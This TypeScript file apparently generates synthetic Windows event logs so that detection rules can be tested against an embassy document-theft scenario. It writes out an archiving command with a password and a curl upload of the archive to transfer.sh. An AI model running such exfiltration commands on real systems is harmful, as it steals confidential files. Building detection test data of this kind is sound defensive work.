import { connected, processStarted } from '../lines/windows.ts'
import { shareFileRead, shareOpened, signedIn } from '../lines/windows-security.ts'
import {
  account,
  DOMAIN,
  domainController,
  fileServer,
  MINUTE,
  outsideAddress,
  type SampleLine,
  type Scene,
  SECOND,
  workstation,
} from '../scene.ts'
import { MISSIONS, type Scenario, stepper } from './scenario.ts'

const FILES = 340
const SUBJECTS = ['nota', 'informe', 'cable', 'acuerdo', 'minuta'] as const

/** A stolen account copies an embassy's correspondence: hundreds of reads, an archive with a password, an upload. */
export const documentExfiltration: Scenario = {
  name: 'Document exfiltration from an embassy',
  offices: MISSIONS,
  fires: [
    'One person reads hundreds of files from a file server',
    'Files packed into an archive with a password',
    'File sent to the Internet by command',
  ],
  lines: exfiltrate,
}

function* exfiltrate(scene: Scene, start: number): Generator<SampleLine> {
  const { office, random } = scene
  const after = stepper(scene, start)
  const number = random.between(1, 40)
  const user = account(number)
  const desk = workstation(office, number)
  const use = { user, from: desk.address, share: 'Correspondencia' }
  yield signedIn(domainController(office), start, { user, from: desk.address, type: 3 })
  yield shareOpened(fileServer(office), after(20 * SECOND), use)
  for (let i = 0; i < FILES; i++) {
    yield shareFileRead(fileServer(office), after(SECOND), { ...use, file: `2026\\${random.pick(SUBJECTS)}-${i}.docx` })
  }
  const prompt = { parent: 'C:\\Windows\\System32\\cmd.exe', user: `${DOMAIN}\\${user}` }
  yield processStarted(desk, after(MINUTE), {
    ...prompt,
    image: 'C:\\Users\\Public\\rar.exe',
    commandLine: 'rar.exe a -r -hpN0ta2026 C:\\Users\\Public\\d.rar \\\\FILES01\\Correspondencia\\*.docx',
  })
  const image = 'C:\\Windows\\System32\\curl.exe'
  const to = outsideAddress(random.between(0, 20))
  yield processStarted(desk, after(2 * MINUTE), {
    ...prompt,
    image,
    commandLine: `curl.exe -T C:\\Users\\Public\\d.rar https://transfer.sh/d.rar`,
  })
  yield connected(desk, after(SECOND), { image, to, port: 443, user: prompt.user })
}
